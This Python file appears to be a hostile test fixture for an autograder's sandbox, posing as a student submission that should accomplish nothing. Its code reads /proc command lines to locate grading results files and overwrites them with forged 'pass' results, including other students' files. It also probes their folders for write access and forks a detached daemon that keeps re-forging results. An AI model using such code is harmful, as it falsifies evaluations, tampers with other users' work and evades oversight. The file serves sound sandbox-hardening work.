# Hostile: tries to write the grader's results. It finds its own results file from the
# pytest command line (/proc/<parent>/cmdline), the class's output folder (OUT, filled in
# by the test: a real attacker would search for it), and every folder of another
# student's run it can reach; it forges what it can, and leaves a daemon behind that
# keeps overwriting the results file until pytest is gone. Its to_bytes is not done.
# It raises with a report of what it managed, so the test can check that was nothing.
import glob
import json
import os
import time

OUT = "__OUT__"
MARK = "FORGED-BY-" + "STUDENT"


def _parent_args():
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
            return [a.decode("utf-8", "replace") for a in f.read().split(b"\0")]
    except OSError:
        return []


def _option(args, name):
    return args[args.index(name) + 1] if name in args[:-1] else None


def _forged_document(path):
    try:
        with open(path, encoding="utf-8") as f:
            tests = json.load(f).get("tests", [])
    except (OSError, ValueError, AttributeError):
        tests = []
    for test in tests:
        test["status"], test["message"] = "pass", MARK
    return {"format": "netlings-collect/1", "finished": True, "exitstatus": 0, "collect_errors": [],
            "tests": tests, "mark": MARK}


def _overwrite(path, text):
    try:
        with open(path, "w", encoding="utf-8") as f:
            f.write(text)
        return True
    except OSError:
        return False


def _mine():
    """Folders that are this run's own (writing there proves nothing): its working folders, and
    its own submission's scratch folder (``…/netlings-grade-*/s<N>-<hex>``) that leads to them."""
    own = {os.path.realpath(os.getcwd())}
    parts = os.path.realpath(os.getcwd()).split(os.sep)
    for i, part in enumerate(parts[:-1]):
        if part.startswith("netlings-grade-"):
            own.add(os.sep.join(parts[:i + 2]))
    home = os.environ.get("HOME")
    if home:
        own.add(os.path.realpath(home))
    return own


def _writable_foreign_dirs():
    """Other students' folders this process can create a file in (probed, then cleaned up)."""
    found = []
    own = _mine()
    patterns = ["/tmp/netlings-run-*/work", "/tmp/netlings-run-*/root/*", "/tmp/netlings-grade-*/*",
                "/tmp/netlings-grade-*/*/*", "/tmp/netlings-grade-*/*/run/tmp/*",
                "/tmp/netlings-grade-*/*/run/tmp/*/*", "/tmp/netlings-grade-*/*/*/tmp/*/*"]
    for pattern in patterns:
        for folder in glob.glob(pattern):
            real = os.path.realpath(folder)
            if not os.path.isdir(real) or any(real == o or real.startswith(o + os.sep) for o in own):
                continue
            probe = os.path.join(real, ".redteam-probe")
            try:
                with open(probe, "x"):
                    pass
                os.unlink(probe)
                found.append(real)
            except OSError:
                pass
    return found


def _other_results():
    """Results files of the other grading processes, read off their command lines in /proc."""
    found = []
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        if cmdline == f"/proc/{os.getppid()}/cmdline":
            continue
        try:
            with open(cmdline, "rb") as f:
                args = [a.decode("utf-8", "replace") for a in f.read().split(b"\0")]
        except OSError:
            continue
        path = _option(args, "--netlings-results")
        if path:
            found.append(path)
    return found


def attack():
    report = {"results": None, "out": [], "foreign_dirs": [], "foreign_results": []}
    args = _parent_args()
    results = _option(args, "--netlings-results")
    if results and _overwrite(results, json.dumps(_forged_document(results))):
        report["results"] = results
    for path in _other_results():
        if _overwrite(path, json.dumps(_forged_document(path))):
            report["foreign_results"].append(path)
    for path in glob.glob(os.path.join(OUT, "**", "*"), recursive=True):
        if os.path.isfile(path) and _overwrite(path, MARK + "\n"):
            report["out"].append(path)
    report["foreign_dirs"] = _writable_foreign_dirs()
    return report, results


def _daemon(results):
    """Keep forging the results file (pytest writes it last) for a while; False if no fork.

    It closes the pipes it inherited, so the harness is not kept waiting for their end
    (a daemon that keeps them only makes each of its own tests time out).
    """
    try:
        if os.fork() != 0:
            return True
    except OSError:
        return False
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        os.closerange(0, 1024)
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            if results and os.path.exists(results):
                _overwrite(results, json.dumps(_forged_document(results)))
            time.sleep(0.02)
    finally:
        os._exit(0)


def to_bytes(text):
    report, results = attack()
    report["daemon"] = _daemon(results)
    raise RuntimeError("forger report: " + json.dumps(report, sort_keys=True))
